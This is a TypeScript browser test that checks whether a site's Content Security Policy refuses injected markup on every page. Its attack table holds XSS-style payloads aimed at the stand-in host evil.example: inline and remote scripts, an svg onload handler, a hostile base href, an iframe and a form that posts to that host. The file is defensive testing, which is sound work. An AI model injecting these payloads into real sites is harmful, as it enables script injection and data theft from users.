/** What browsers refuse because of the policy and the headers. */
import { expect, test } from "vitest";
import { eventually, forEachPage } from "../support/browser.ts";
import { allPaths } from "../support/site.ts";
import { prepareVisits } from "../support/visits.ts";

const visits = prepareVisits();

const evil = "https://evil.example";

/** Injected markup by what the browser reports when the policy refuses it. */
const attacks = {
  "script-src-elem inline": "<script>document.title = 'taken over'</script>",
  [`script-src-elem ${evil}/code.js`]: `<script src="${evil}/code.js"></script>`,
  "script-src-attr inline": `<svg onload="document.title='taken over'"></svg>`,
  "style-src-attr inline": `<p id="styled" style="position: fixed">styled</p>`,
  "style-src-elem inline": "<style>h1 { position: fixed }</style>",
  [`style-src-elem ${evil}/style.css`]: `<link rel="stylesheet" href="${evil}/style.css">`,
  [`frame-src ${evil}`]: `<iframe src="${evil}/frame" title=""></iframe>`,
  [`img-src ${evil}/picture.png`]: `<img src="${evil}/picture.png" alt="">`,
  [`base-uri ${evil}`]: `<base href="${evil}/">`,
  [`form-action ${evil}/form`]: `<form id="theft" action="${evil}/form" method="post"></form>`,
};

test("the policy of every page refuses injected markup", async () => {
  await using visitor = await visits.newVisitor({ closedPopup: true });
  const refused = new Map<string, Set<string>>(allPaths.map((path) => [path, new Set()]));
  await visitor.context.exposeFunction("refuse", (path: string, what: string) =>
    refused.get(path)?.add(what),
  );
  await visitor.context.addInitScript(() => {
    const { refuse } = window as unknown as { refuse(path: string, what: string): void };
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      const address = blockedURI.replace(/example(\/|\/frame\/?)$/, "example");
      refuse(location.pathname, `${effectiveDirective} ${address}`);
    });
  });
  await forEachPage(visitor, allPaths, async (path, page) => {
    await page.route(
      (url) => url.pathname === path,
      async (route) => {
        const response = await route.fetch();
        const markup = Object.values(attacks).join("");
        const body = (await response.text()).replace("</body>", `${markup}</body>`);
        await route.fulfill({ response, body });
      },
    );
    await page.goto(path);
    const seen = await page.evaluate(() => {
      document.querySelector<HTMLFormElement>("#theft")?.submit();
      const positionOf = (name: string) => {
        const element = document.querySelector(name);
        return element && getComputedStyle(element).position;
      };
      return [positionOf("h1"), positionOf("#styled"), document.baseURI, document.title];
    });
    expect(seen.slice(0, 3), path).toEqual(["static", "static", page.url()]);
    expect(seen[3], path).not.toContain("taken over");
    const reports = () => [...(refused.get(path) ?? [])];
    await eventually(reports).toEqual(expect.arrayContaining(Object.keys(attacks)));
  });
  expect(visitor.outside.filter((address) => address.startsWith(evil))).toEqual([]);
});
